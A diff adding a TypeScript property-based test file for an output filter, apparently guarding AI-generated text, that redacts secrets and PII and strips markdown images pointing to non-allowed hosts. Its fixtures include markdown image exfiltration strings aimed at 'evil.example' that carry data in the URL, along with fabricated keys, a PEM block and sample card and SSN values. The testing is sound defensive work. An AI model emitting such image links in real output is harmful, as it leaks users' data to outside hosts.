@@ -1,0 +1,105 @@
+import { randomBytes } from 'node:crypto';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { createPseudonymVault } from '../../detect/pii/index.js';
+import { guardSchema } from './config.js';
+import { createOutputScanner } from './output-scan.js';
+import { createTextFilter, windowFor } from './output-text.js';
+import { createGuardPolicies } from './policy.js';
+
+const policy = createGuardPolicies(
+  guardSchema.parse({ output: { pii: { email: 'redact' }, allowedHosts: ['docs.example.com'] } }),
+).forEnv(undefined);
+const vault = createPseudonymVault();
+vault.tokenFor('email', 'anna@example.com');
+vault.tokenFor('card', '4111 1111 1111 1111');
+
+const alnum = (n: number) =>
+  [...randomBytes(n)]
+    .map((b) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'[b % 62])
+    .join('');
+const KEY = `sk-proj-${alnum(48)}T3BlbkFJ${alnum(48)}`;
+const LONG_JWT = `eyJhbGciOiJIUzI1NiJ9.eyJ${alnum(600)}.${alnum(43)}`;
+const PEM = `-----BEGIN RSA PRIVATE KEY-----\n${alnum(64)}\n${alnum(64)}\n-----END RSA PRIVATE KEY-----`;
+
+const piece = fc.oneof(
+  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
+  {
+    weight: 4,
+    arbitrary: fc.constantFrom(
+      KEY,
+      LONG_JWT,
+      PEM,
+      '<EMAIL_1>',
+      '<CARD_1>',
+      '<EMAIL_9>',
+      'bob@example.org',
+      'x'.repeat(300),
+      '![pic](https://evil.example/p.png?d=secret)',
+      '![ok](https://docs.example.com/a.png)',
+      `![long](https://evil.example/${'a'.repeat(400)}`,
+      '[link](https://evil.example)',
+      '<',
+      '-----BEGIN',
+      ' ',
+      '\n',
+      'SSN 219-09-9999',
+      '4111 1111 1111 1111',
+    ),
+  },
+);
+
+function run(text: string, cuts: number[], holdBackChars: number): string {
+  const filter = createTextFilter(createOutputScanner(policy, vault), windowFor(holdBackChars));
+  let out = '';
+  let at = 0;
+  for (const cut of [...new Set(cuts.map((c) => c % (text.length + 1)))].sort((a, b) => a - b)) {
+    out += filter.push(text.slice(at, cut));
+    at = cut;
+  }
+  return out + filter.push(text.slice(at)) + filter.flush();
+}
+
+describe('output text filter', () => {
+  it('gives the same output for every split of the text into chunks', () => {
+    fc.assert(
+      fc.property(
+        fc.array(piece, { maxLength: 14 }),
+        fc.array(fc.nat(), { maxLength: 30 }),
+        fc.constantFrom(128, 256, 1024),
+        (parts, cuts, hold) => {
+          const text = parts.join('');
+          expect(run(text, cuts, hold)).toBe(run(text, [], hold));
+        },
+      ),
+      { numRuns: 400 },
+    );
+  });
+
+  it('removes values longer than the window (long keys, PEM blocks, open image URLs)', () => {
+    const text = `a ${LONG_JWT} b ${PEM} c ![x](https://evil.example/${'q'.repeat(500)}) d`;
+    for (const hold of [128, 256]) {
+      const out = run(text, [5, 77, 300, 301, 900], hold);
+      expect(out).toBe('a [REDACTED:credential] b [REDACTED:private-key] c [image removed: x] d');
+    }
+  });
+
+  it('restores placeholders, redacts configured PII and secrets, keeps allowed images', () => {
+    const text = `To <EMAIL_1> from bob@example.org key ${KEY} ![ok](https://docs.example.com/a.png)`;
+    expect(run(text, [3, 10, 11, 50], 128)).toBe(
+      'To anna@example.com from [EMAIL] key [REDACTED:openai-project-key] ![ok](https://docs.example.com/a.png)',
+    );
+  });
+
+  it('holds back at most holdBackChars characters while text flows', () => {
+    const filter = createTextFilter(createOutputScanner(policy, vault), windowFor(256));
+    let pushed = 0;
+    let emitted = 0;
+    for (let i = 0; i < 200; i++) {
+      const chunk = 'lorem ipsum '.slice(0, 1 + (i % 12));
+      pushed += chunk.length;
+      emitted += filter.push(chunk).length;
+      expect(pushed - emitted).toBeLessThan(256);
+    }
+  });
+});
